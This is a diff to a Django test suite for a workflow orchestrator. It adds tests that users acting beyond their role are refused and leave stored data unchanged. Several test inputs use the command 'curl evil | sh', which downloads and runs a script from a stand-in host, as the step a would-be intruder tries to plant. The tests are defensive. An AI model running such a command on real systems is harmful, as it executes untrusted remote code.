@@ -15,7 +15,7 @@ from django.core.management import CommandError, call_command
 
 from runs.models import Run
 from tests.conftest import make_workflow, queued_run
-from workflows.models import Step, Workflow
+from workflows.models import Secret, Step, Workflow
 
 NIGHTLY = """
 slug: nightly
@@ -42,6 +42,7 @@ def stored() -> list:
         list(Workflow.objects.order_by("slug").values()),
         list(Step.objects.order_by("id").values()),
         Run.objects.count(),
+        list(Secret.objects.values_list("workflow", "name", "encrypted")),
     ]
 
 
@@ -567,7 +568,7 @@ def test_the_editor_refuses_a_step_that_takes_the_workflow_past_1_mib(alice_clie
 
     assert response.status_code == 200
     assert (
-        '<p class="field-error" role="alert">workflow: its text comes to 1,050,390 bytes once '
+        '<p class="field-error" role="alert">workflow: its text comes to 1,050,502 bytes once '
         "aliases are expanded; a workflow may be at most 1 MiB (1,048,576 bytes)</p>"
     ) in response.content.decode()
     assert stored() == before
@@ -659,7 +660,56 @@ def test_the_settings_form_says_when_defaults_take_the_workflow_past_1_mib(alice
 
     assert response.status_code == 200
     assert (
-        '<p class="field-error" role="alert">workflow: its text comes to 1,054,966 bytes once '
+        '<p class="field-error" role="alert">workflow: its text comes to 1,055,071 bytes once '
         "aliases are expanded; a workflow may be at most 1 MiB (1,048,576 bytes)"
     ) in response.content.decode()
+    assert stored() == before
+
+
+# Roles: a person reaching past their role is refused, and nothing changes.
+
+
+@pytest.fixture
+def intruders(nightly, django_user_model):
+    """An operator of nightly, and an editor of another workflow only."""
+    from orchestrator_site.accounts.models import Grant, Role
+
+    other = make_workflow({"slug": "other", "name": "Other"})
+    operator = django_user_model.objects.create_user("olga")
+    Grant.objects.create(user=operator, workflow=nightly, role=Role.OPERATOR)
+    outsider = django_user_model.objects.create_user("otto")
+    Grant.objects.create(user=outsider, workflow=other, role=Role.EDITOR)
+    return operator, outsider
+
+
+@pytest.mark.parametrize(
+    ("who", "path", "data", "status"),
+    [
+        # An operator changing the command a run will execute.
+        ("operator", "/workflows/nightly/steps/build/save",
+         {"version": "1", "kind": "shell", "key": "build", "command": "curl evil | sh"}, 403),
+        ("operator", "/workflows/nightly/settings", {"version": "1", "name": "Mine"}, 403),
+        ("operator", "/workflows/nightly/delete", {}, 403),
+        ("operator", "/workflows/nightly/secrets", {"name": "X_TOKEN", "value": "v"}, 403),
+        ("operator", "/secrets/", {"name": "X_TOKEN", "value": "v"}, 403),
+        # An editor of another workflow replacing nightly through an import:
+        # refused as the creation it looks like, without saying nightly exists.
+        ("outsider", "/workflows/import",
+         {"content": NIGHTLY.replace("./build.sh", "curl evil | sh"), "replacing": "1"}, 403),
+        ("outsider", "/workflows/nightly/run", {"token": "t"}, 404),
+        ("outsider", "/workflows/nightly/duplicate", {}, 404),
+    ],
+)  # fmt: skip
+def test_a_person_reaching_past_their_role_changes_nothing(
+    client, intruders, who, path, data, status
+):
+    operator, outsider = intruders
+    client.force_login(operator if who == "operator" else outsider)
+    before = stored()
+
+    response = client.post(path, data)
+
+    assert response.status_code == status
+    assert "nightly" not in response.content.decode()  # not even that it exists
+    assert "curl evil" not in response.content.decode()
     assert stored() == before
